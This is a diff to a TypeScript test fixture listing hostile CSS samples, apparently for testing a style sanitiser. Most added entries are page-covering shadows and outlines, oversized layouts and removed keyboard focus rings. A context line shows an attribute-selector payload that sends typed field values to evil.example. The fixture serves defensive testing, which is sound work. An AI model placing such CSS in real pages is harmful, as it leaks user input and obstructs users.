@@ -99,6 +99,22 @@ export const hostileCss: readonly (readonly [name: string, css: string])[] = [
   ["a shadow over the page", "form { box-shadow: 0 0 0 2000px red; outline: 1000px solid red }"],
   ["a shadow by calc()", "form { box-shadow: 0 0 0 calc(90px * 99) red; outline-offset: calc(9px * 999) }"],
   ["a shadow by a token", "form { --aw-cardShadow: 0 0 0 100vmax red }"],
+  ["a shadow by a length token", "form { --aw-cardPadding: 2000px; box-shadow: 0 0 0 var(--aw-cardPadding) red }"],
+  ["a shadow by a font token", "form { --aw-fontFamily: 0 0 0 2000px red; box-shadow: var(--aw-fontFamily) }"],
+  ["an outline by tokens", "form { --aw-buttonRadius: 2000px; outline: var(--aw-buttonRadius) solid red }"],
+  [
+    "a survey without height, and what it leaves",
+    ":host { height: 0 } form { width: 2000px; height: 2000px; opacity: 0 }",
+  ],
+  ["a survey wider than its place", ".afterword { width: 2000px; min-width: calc(100% + 900px) }"],
+  [
+    "a survey that its padding widens",
+    ":host { padding: 0 900px; border-left: 50em solid red; padding: calc(9px * 99) }",
+  ],
+  [
+    "a survey beside its place",
+    ":host:hover { margin-left: 1000px; display: inline-flex; aspect-ratio: 9; flex: 0 0 900px }",
+  ],
   ["sizes without end", "form { width: 999999px; height: 1e9px; padding: 9999vh; font-size: 5000rem }"],
   // What others typed.
   ["reading a field by attribute", 'input[value^="a"] { background: url(https://evil.example/a) }'],
@@ -113,6 +129,11 @@ export const hostileCss: readonly (readonly [name: string, css: string])[] = [
   [
     "no ring for the keyboard",
     "*:focus-visible { outline: none } .box { outline: 0 } a { outline-style: none; outline-width: 0px }",
+  ],
+  ["no ring for the keyboard by a token", ".box:focus { --aw-titleColor: none; outline: var(--aw-titleColor) }"],
+  [
+    "no ring for the keyboard in other words",
+    ".a { outline: red } .b { outline: initial } .c { outline-width: 0.0px } .d { outline: 0.001em solid } .e { outline-color: transparent }",
   ],
   ["endless motion", "@keyframes x { to { opacity: 0 } } h2 { animation: x 1ms infinite; transition: all 9s }"],
   // Other rules.
